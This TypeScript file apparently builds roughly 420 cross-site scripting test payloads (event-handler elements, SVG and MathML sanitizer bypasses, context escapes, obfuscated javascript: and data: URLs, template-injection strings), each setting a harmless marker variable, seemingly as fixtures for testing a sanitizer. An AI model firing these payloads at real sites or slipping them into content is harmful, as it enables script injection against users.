/**
 * Payloads of cross-site scripting: what an element can run, times the ways to
 * get out of where a text stands, and addresses that are no addresses. Each sets
 * `globalThis.__x` where it is run. Kinds after the cheat sheet of OWASP and the
 * fixtures of DOMPurify.
 */

const CALL = 'globalThis.__x=1';

/** Elements that run something by themselves. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=data:text/javascript,${CALL}></SCRIPT>`,
  `<script\n>${CALL}</script\n>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<IMG SRC="x" OnErRoR='${CALL}'>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x:x onerror\u0000=${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}" /></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}" /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${CALL}'/></svg>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__x=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math><a xlink:href="javascript:${CALL}">x</a></math>`,
  `<iframe src="javascript:parent.__x=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__x=1</script>"></iframe>`,
  `<iframe onload=${CALL}></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>parent.__x=1</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<input autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<button popovertarget=x onclick=${CALL} autofocus onfocus=${CALL}>x</button>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<style>@import 'javascript:${CALL}'; * { background: url("javascript:${CALL}") }</style>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<template><script>${CALL}</script></template><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<div style="animation: x 1s" onanimationstart=${CALL}>x</div><style>@keyframes x { }</style>`,
  `<div style="transition: color 1s" ontransitionend=${CALL} tabindex=0>x</div>`,
  `<xss is="x" onpointerenter=${CALL} style="position: fixed; inset: 0">x</xss>`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
];

/** What may end the place where a text was put. */
const ESCAPES = [
  (element: string) => element,
  (element: string) => `">${element}`,
  (element: string) => `'>${element}`,
  (element: string) => `--></style></title></textarea></script>${element}`,
  (element: string) => `]]>${element}<![CDATA[`,
  (element: string) => `\`\`\`\n\n${element}\n\n`,
];

const PROTOCOLS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  ` \u0001javascript:${CALL}`,
  `\u200ejavascript:${CALL}`,
  `\u202ejavascript:${CALL}`,
  `javascript\u0000:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}`,
  `javascript://news.example/%0a${CALL}`,
  `javascript:/*--></title></style></textarea></script>*/${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>opener.__x=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `blob:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `feed:javascript:${CALL}`,
];

/** Ways to write an address in a note. */
const LINKS = [
  (address: string) => address,
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[x][y]\n\n[y]: ${address} "x"`,
];

/** Text that does something where it is code, a template or a key. */
const TEXTS = [
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{${CALL}}`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\`-(${CALL})-\``,
  '__proto__',
  'constructor',
  '&lt;img src=x onerror=globalThis.__x=1&gt;',
  '\u003cimg src=x onerror=globalThis.__x=1\u003e',
  '+ADw-script+AD4-globalThis.__x=1+ADw-/script+AD4-',
  '\ud800<img src=x onerror=globalThis.__x=1>',
];

/** All payloads: some 420. */
export const PAYLOADS: string[] = [
  ...ELEMENTS.flatMap(element => ESCAPES.map(end => end(element))),
  ...PROTOCOLS.flatMap(address => LINKS.map(link => link(address))),
  ...TEXTS,
];
